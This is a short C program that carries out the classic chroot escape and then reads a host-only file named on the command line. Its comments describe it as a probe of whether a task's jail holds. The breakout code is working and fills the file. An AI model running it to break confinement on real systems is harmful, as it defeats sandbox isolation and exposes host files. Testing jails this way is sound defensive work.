// The classic chroot escape, run inside a task to show whether its jail holds:
// make a directory, chroot into it (the cwd is now outside the root), climb with chdir(".."),
// chroot(".") at the top, then try to read the host-only file named by argv[1].
// Prints the file and exits 0 if it escaped; exits 1 if it did not.
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 2) return 2;
  mkdir("escape-dir", 0755);
  if (chroot("escape-dir") != 0) perror("chroot escape-dir");
  for (int i = 0; i < 256; i++)
    if (chdir("..") != 0) break;
  if (chroot(".") != 0) perror("chroot .");
  int fd = open(argv[1], O_RDONLY);
  if (fd < 0) {
    perror(argv[1]);
    return 1;
  }
  char buffer[256];
  ssize_t n = read(fd, buffer, sizeof buffer);
  if (n > 0) fwrite(buffer, 1, (size_t)n, stdout);
  return n > 0 ? 0 : 1;
}
